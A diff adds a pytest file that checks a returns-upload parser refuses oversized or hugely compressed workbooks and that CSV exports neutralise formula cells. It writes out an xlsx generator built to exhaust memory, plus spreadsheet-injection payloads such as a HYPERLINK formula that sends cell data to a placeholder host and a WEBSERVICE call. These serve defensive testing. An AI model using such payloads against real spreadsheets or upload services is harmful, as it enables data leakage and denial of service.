@@ -1,0 +1,153 @@
+"""Uploaded returns are bounded before they are parsed, and exports are inert in a
+spreadsheet."""
+
+from __future__ import annotations
+
+import io
+import tracemalloc
+import zipfile
+
+import pandas as pd
+import pytest
+
+from scorecard_ui import returns_upload
+from scorecard_ui.returns_upload import MAX_ROWS, UploadRefused, read_upload
+from scorecard_ui.spreadsheet import neutralised, safe_csv
+from scorecard_ui.views.scrutiny import comparison
+
+HEADER = "event_id,type,occurred_at,case,source,client,age_band,gender,historic\n"
+ROW = "r-{n},referral.received,2015-10-05,C-{n},police,child,11-15,female,false\n"
+
+
+def xlsx_of(rows: int) -> bytes:
+    """A workbook of ``rows`` identical rows, written as a hostile one would be (no cell
+    references, compressed hard): 300,000 rows fit in about half a megabyte."""
+    def cells(values: list[str]) -> str:
+        return "<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>'
+                                 for v in values) + "</row>"
+
+    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
+             'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+             + cells(HEADER.strip().split(","))
+             + cells(ROW.format(n=1).strip().split(",")) * rows + "</sheetData></worksheet>")
+    main = "http://schemas.openxmlformats.org"
+    parts = {
+        "[Content_Types].xml": (
+            f'<Types xmlns="{main}/package/2006/content-types"><Default Extension="rels" '
+            f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+            '<Default Extension="xml" ContentType="application/xml"/><Override '
+            'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
+            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
+            'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
+            'officedocument.spreadsheetml.worksheet+xml"/></Types>'),
+        "_rels/.rels": (
+            f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship '
+            f'Id="r1" Type="{main}/officeDocument/2006/relationships/officeDocument" '
+            'Target="xl/workbook.xml"/></Relationships>'),
+        "xl/workbook.xml": (
+            f'<workbook xmlns="{main}/spreadsheetml/2006/main" xmlns:r="{main}/'
+            'officeDocument/2006/relationships"><sheets><sheet name="Return" sheetId="1" '
+            'r:id="r1"/></sheets></workbook>'),
+        "xl/_rels/workbook.xml.rels": (
+            f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship '
+            f'Id="r1" Type="{main}/officeDocument/2006/relationships/worksheet" '
+            'Target="worksheets/sheet1.xml"/></Relationships>'),
+        "xl/worksheets/sheet1.xml": sheet,
+    }
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, text in parts.items():
+            archive.writestr(name, text)
+    return packed.getvalue()
+
+
+def test_a_small_workbook_of_300000_rows_is_refused_without_reading_it_into_memory() -> None:
+    """Issue 12 item 5: a 44 KB .xlsx of 300,000 rows took the server from 353 MB to
+    1.27 GB and 38 s."""
+    content = xlsx_of(300_000)
+    assert len(content) < 2**20  # well under the 10 MB upload limit
+    tracemalloc.start()
+    try:
+        with pytest.raises(UploadRefused, match=r"unzips to .* MB, more than 50 MB"):
+            list(read_upload("return.xlsx", content, "racs"))
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 64 * 2**20, f"peak {peak / 2**20:.0f} MiB"
+
+
+def test_a_long_workbook_is_read_only_up_to_the_row_cap(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(returns_upload, "MAX_ROWS", 1000)
+    tracemalloc.start()
+    try:
+        with pytest.raises(UploadRefused, match="more than 1,000 rows"):
+            list(read_upload("return.xlsx", xlsx_of(20_000), "racs"))
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 32 * 2**20, f"peak {peak / 2**20:.0f} MiB"
+
+
+def test_a_workbook_that_unzips_too_large_is_refused_before_it_is_opened(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(returns_upload, "MAX_UNZIPPED_BYTES", 1000)
+    with pytest.raises(UploadRefused, match="unzips to"):
+        list(read_upload("return.xlsx", xlsx_of(100), "racs"))
+    with pytest.raises(UploadRefused, match="not an Excel workbook"):
+        list(read_upload("return.xlsx", b"not a zip", "racs"))
+
+
+def test_a_workbook_within_the_limits_is_read_row_by_row() -> None:
+    rows = list(read_upload("return.xlsx", xlsx_of(3), "racs"))
+    assert [number for number, *_ in rows] == [2, 3, 4]
+    assert rows[0][2] is not None and rows[0][2]["payload"]["case"] == "C-1"
+
+
+@pytest.mark.parametrize("name, line", [("return.csv", ROW), ("return.jsonl", "{{}}\n")])
+def test_csv_and_json_lines_over_the_row_cap_are_refused(name: str, line: str) -> None:
+    content = (HEADER + "".join(line.format(n=n) for n in range(MAX_ROWS + 5))).encode()
+    with pytest.raises(UploadRefused, match="more than 20,000 rows"):
+        list(read_upload(name, content, "racs"))
+
+
+def test_a_csv_that_is_not_utf_8_is_refused_with_the_rule_not_a_traceback() -> None:
+    content = (HEADER + ROW.format(n=1)).encode("utf-8") + b"\xff\xfe,bad\n"
+    with pytest.raises(UploadRefused, match=r"not UTF-8 text \(byte \d+ is not\)"):
+        list(read_upload("return.csv", content, "racs"))
+
+
+def test_a_csv_within_the_limits_is_read_as_before() -> None:
+    content = (HEADER + ROW.format(n=1) + "\n" + ROW.format(n=2)).encode()
+    rows = list(read_upload("return.csv", content, "racs"))
+    assert [r[2]["event_id"] for r in rows if r[2]] == ["r-1", "r-2"]
+    assert rows[0][2] is not None and rows[0][2]["payload"]["historic"] is False
+
+
+@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x/?\"&A1)", "+cmd", "-2+3", "@SUM(A1)",
+                                  "\t=1", "\r=1"])
+def test_formula_cells_are_inert_in_csv_exports(cell: str) -> None:
+    """Issue 12 item 13."""
+    assert neutralised(cell) == "'" + cell
+    text = safe_csv(pd.DataFrame([{"Measure": cell, "Value": 3}])).decode()
+    assert text.splitlines()[1].lstrip('"').startswith("'")
+
+
+def test_numbers_and_plain_text_are_left_alone() -> None:
+    for cell in ("-3", "+1.5", "Helpline contacts", "", 7):
+        assert neutralised(cell) == cell
+
+
+def test_the_scrutiny_download_is_inert() -> None:
+    from projections.report import MeasureValue, Report
+
+    def report(title: str) -> Report:
+        return Report(as_at=pd.Timestamp("2015-10-31").date(),
+                      known_at=pd.Timestamp("2015-11-01", tz="UTC").to_pydatetime(),
+                      from_day=pd.Timestamp("2015-04-01").date(), plan={},
+                      measures=[MeasureValue(id="m", title=title, value=3, unit="count",
+                                             by_agency={"racs": 3})])
+
+    hostile = "=WEBSERVICE(\"http://x\")"
+    csv = safe_csv(comparison(report(hostile), report(hostile), suppress=False)).decode()
+    assert hostile not in csv.replace("'" + hostile, "")
